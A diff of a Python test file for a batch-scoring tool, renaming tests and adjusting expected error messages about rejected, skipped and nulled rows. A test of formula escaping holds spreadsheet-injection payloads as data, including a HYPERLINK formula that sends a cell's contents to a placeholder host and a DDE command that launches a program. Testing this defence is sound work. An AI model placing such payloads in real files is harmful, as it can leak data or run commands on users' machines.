@@ -1,4 +1,4 @@
-"""Batch scoring: copied columns, and rows that cannot be scored as they are."""
+"""Tests of batch scoring: copied columns, and bad rows."""
 
 from __future__ import annotations
 
@@ -83,7 +83,7 @@ def scored(model: Model, rows: pd.DataFrame | str, tmp_path: Path, **options: An
     return summary, found
 
 
-def test_the_run_and_the_model_know_the_identifier(run: Path, model: Model, tmp_path: Path) -> None:
+def test_the_run_and_the_model_record_the_identifier(run: Path, model: Model, tmp_path: Path) -> None:
     tested = pd.read_parquet(run / "predictions.parquet")
     assert list(tested.columns[:3]) == ["row", "id", "target"]
     assert (tested["id"] == frame()["id"].to_numpy()[tested["row"]]).all()
@@ -96,7 +96,7 @@ def test_the_run_and_the_model_know_the_identifier(run: Path, model: Model, tmp_
     assert "id" not in scored(model, batch().drop(columns="id"), tmp_path)[1]
 
 
-def test_columns_that_were_dropped_are_identifiers_by_their_values(tmp_path: Path) -> None:
+def test_dropped_columns_with_unique_values_are_identifiers(tmp_path: Path) -> None:
     frame().assign(ratio=np.arange(N) / 7).to_csv(tmp_path / "t.csv", index=False)
     text = CONFIG.replace("id: id, drop: [", "drop: [ratio, id, ")
     (tmp_path / "c.yaml").write_text(text)
@@ -129,7 +129,7 @@ def test_types_of_parquet_are_kept(model: Model, tmp_path: Path) -> None:
     score(model.folder, str(tmp_path / "new.parquet"), tmp_path / "s.parquet", keep=["tags", "big"])
     found = pq.read_table(tmp_path / "s.parquet")
     assert found.select(["tags", "big"]).equals(rows.select(["tags", "big"]))
-    with pytest.raises(ConfigError, match=r"'tags' holds list<.*>, which CSV cannot hold"):
+    with pytest.raises(ConfigError, match=r"'tags' has type list<.*>, which CSV does not support"):
         score(model.folder, str(tmp_path / "new.parquet"), tmp_path / "s.csv", keep=["tags"])
 
 
@@ -138,11 +138,11 @@ def test_types_of_parquet_are_kept(model: Model, tmp_path: Path) -> None:
     [
         ({}, {"ids": ["ID"]}, "(?s)--id: the input has no column 'ID'.*did you mean 'id'"),
         ({}, {"keep": ["plans"]}, "(?s)--keep: the input has no column 'plans'.*did you mean 'plan'"),
-        ({"prediction": "1"}, {"keep": ["pred*"]}, "(?s)'prediction' cannot be copied.*do not keep it"),
-        ({"row": "1"}, {"keep": ["row"], "on_error": "reject"}, "'row' cannot be copied"),
+        ({"prediction": "1"}, {"keep": ["pred*"]}, "(?s)input column 'prediction'.*do not keep it"),
+        ({"row": "1"}, {"keep": ["row"], "on_error": "reject"}, "input column 'row'"),
     ],
 )
-def test_columns_that_cannot_be_copied_are_refused(
+def test_columns_that_cannot_be_copied_are_rejected(
     model: Model, tmp_path: Path, columns: dict[str, Any], options: dict[str, Any], says: str
 ) -> None:
     with pytest.raises(ConfigError, match=says):
@@ -153,7 +153,7 @@ def test_columns_that_cannot_be_copied_are_refused(
 BAD = {"age": (2, "old"), "active": (4, "perhaps"), "since": (5, "yesterday")}
 
 
-def test_bad_cells_are_refused_all_at_once(model: Model, tmp_path: Path) -> None:
+def test_one_error_names_all_bad_cells(model: Model, tmp_path: Path) -> None:
     with pytest.raises(SchemaError) as caught:
         scored(model, batch(**BAD), tmp_path)
     assert caught.value.what.split("\n") == [
@@ -168,11 +168,11 @@ def test_bad_cells_are_refused_all_at_once(model: Model, tmp_path: Path) -> None
     ("column", "says", "fix"),
     [
         (pa.array([pd.Timestamp("2024-01-01")] * 10), "expected a number in column 'age'; found times", "give the col"),
-        (pa.array([[1]] * 10), "expected one value a row in 'age'", "flatten"),
+        (pa.array([[1]] * 10), "expected one value per row in 'age'", "flatten"),
     ],
 )
 @pytest.mark.parametrize("on_error", ["error", "reject"])
-def test_columns_of_another_type_are_no_bad_rows(
+def test_columns_of_another_type_raise_errors_instead_of_rejecting_rows(
     model: Model, tmp_path: Path, column: pa.Array, says: str, fix: str, on_error: Any
 ) -> None:
     rows = pa.Table.from_pandas(batch().assign(score=1.5), preserve_index=False)
@@ -182,7 +182,7 @@ def test_columns_of_another_type_are_no_bad_rows(
     assert caught.value.fix.startswith(fix) and "new.parquet" in caught.value.where
 
 
-def test_rejected_rows_are_in_a_file_and_the_others_scored_as_ever(model: Model, tmp_path: Path) -> None:
+def test_rejected_rows_are_written_to_a_file_and_other_rows_are_scored(model: Model, tmp_path: Path) -> None:
     broken = BAD | {"plan": (7, "z"), "score": (8, "")}
     lines = batch(**broken).to_csv(index=False).splitlines()
     lines.insert(2, "00099,only three,fields")  # the second data row
@@ -203,10 +203,10 @@ def test_rejected_rows_are_in_a_file_and_the_others_scored_as_ever(model: Model,
     assert (summary.n_rows, summary.n_rejected, summary.rejected_path) == (5, 6, tmp_path / "scores.rejected.csv")
     json.dumps(summary.to_json())
     assert scored(model, batch(), tmp_path, on_error="reject")[0].n_rejected == 0
-    assert not (tmp_path / "scores.rejected.csv").exists()  # those of the scoring before
+    assert not (tmp_path / "scores.rejected.csv").exists()  # from the previous scoring
 
 
-def test_bad_cells_become_null_where_the_rules_let_them(model: Model, tmp_path: Path) -> None:
+def test_bad_cells_become_null_where_the_rules_allow_it(model: Model, tmp_path: Path) -> None:
     broken = BAD | {"plan": (7, "z"), "score": (8, "much")}
     summary, found = scored(model, batch(**broken), tmp_path, on_error="null")
     assert summary.nulled == {"age": 1, "active": 1, "since": 1, "plan": 1}
@@ -216,41 +216,41 @@ def test_bad_cells_become_null_where_the_rules_let_them(model: Model, tmp_path: 
     np.testing.assert_array_equal(found["probability_yes"], model.predict_proba(as_null)[:, 1])
 
 
-def test_rows_that_are_skipped_are_reported(model: Model, tmp_path: Path) -> None:
+def test_skipped_rows_are_reported(model: Model, tmp_path: Path) -> None:
     def skip(source: TableSource) -> TableSource:
         return source.model_copy(update={"csv": source.csv.model_copy(update={"bad_rows": "skip"})})
 
     text = batch().to_csv(index=False) + "short\n"
     summary, found = scored(model, text, tmp_path, adjust=skip)
-    assert len(found) == 10 and summary.notes[0].startswith("skipped 1 row with another number of fields")
+    assert len(found) == 10 and summary.notes[0].startswith("skipped 1 row whose number of fields differs")
     assert summary.n_rejected == 0 and "row" not in found
 
 
-def test_an_input_without_a_good_row_is_refused_and_its_rows_are_written(model: Model, tmp_path: Path) -> None:
-    with pytest.raises(SchemaError, match=r"no row is left to score, 10 rejected:\nage: expected a number: 10 rows"):
+def test_an_input_with_bad_rows_only_raises_an_error_and_its_rows_are_written(model: Model, tmp_path: Path) -> None:
+    with pytest.raises(SchemaError, match=r"all 10 rows were rejected:\nage: expected a number: 10 rows"):
         scored(model, batch().assign(age="old"), tmp_path, on_error="reject")
     assert len(pd.read_csv(tmp_path / "scores.rejected.csv")) == 10 and not (tmp_path / "scores.csv").exists()
     header = batch().to_csv(index=False).splitlines()[0]
-    with pytest.raises(SchemaError, match="no row is left to score, 2 rejected"):
+    with pytest.raises(SchemaError, match="all 2 rows were rejected"):
         scored(model, f"{header}\nshort\n1,2\n", tmp_path, on_error="null")
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".parquet"])
 @pytest.mark.parametrize("data", [batch(), batch(**BAD)])
-def test_a_file_that_is_none_of_rejected_rows_is_neither_removed_nor_replaced(
+def test_a_file_with_other_content_is_neither_removed_nor_replaced_by_rejected_rows(
     model: Model, tmp_path: Path, suffix: str, data: pd.DataFrame
 ) -> None:
     theirs = tmp_path / f"s.rejected{suffix}"
     (pd.DataFrame.to_csv if suffix == ".csv" else pd.DataFrame.to_parquet)(batch(), theirs)
     content = theirs.read_bytes()
     data.to_csv(tmp_path / "new.csv", index=False)
-    with pytest.raises(ConfigError, match="holds something else") as caught:
+    with pytest.raises(ConfigError, match="the file exists and has other content") as caught:
         score(model.folder, str(tmp_path / "new.csv"), tmp_path / f"s{suffix}", on_error="reject")
     assert caught.value.where == str(theirs)
     assert theirs.read_bytes() == content and not (tmp_path / f"s{suffix}").exists()
 
 
-def test_rows_are_numbered_through_several_files_of_other_marks(model: Model, tmp_path: Path) -> None:
+def test_rows_are_numbered_across_several_files(model: Model, tmp_path: Path) -> None:
     rows = batch().assign(score=["1,5"] * 4 + ["1,5x"] + ["1,5"] * 5)
     for i, part in enumerate((rows[:5], rows[5:])):
         lines = part.to_csv(index=False, sep=";").splitlines()
@@ -270,7 +270,7 @@ def test_rows_are_numbered_through_several_files_of_other_marks(model: Model, tm
     assert found["row"].tolist() == [0, 1, 2, 3, 6, 7, 8, 9, 10] and summary.n_rejected == 3
 
 
-def test_safe_csv_holds_no_formula_and_every_number(model: Model, tmp_path: Path) -> None:
+def test_safe_csv_escapes_formulas_but_not_numbers(model: Model, tmp_path: Path) -> None:
     dangerous = ['=HYPERLINK("http://x/?"&A1,"go")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
     plain = ["a", "", "-5", "+1.5e-3", "a=b", " =1", "'=1"]
     texts = pa.chunked_array([dangerous, plain])
@@ -285,7 +285,7 @@ def test_safe_csv_holds_no_formula_and_every_number(model: Model, tmp_path: Path
     assert pd.read_csv(tmp_path / "t.csv", keep_default_na=False)["=name"].tolist()[:4] == dangerous[:4]
 
 
-def test_safe_csv_is_of_scores_and_of_rejected_rows(model: Model, tmp_path: Path) -> None:
+def test_safe_csv_applies_to_scores_and_rejected_rows(model: Model, tmp_path: Path) -> None:
     rows = frame()
     rows["note"], rows.loc[3, "plan"] = "=1+1", "=2+2"
     rows.to_csv(tmp_path / "t.csv", index=False)
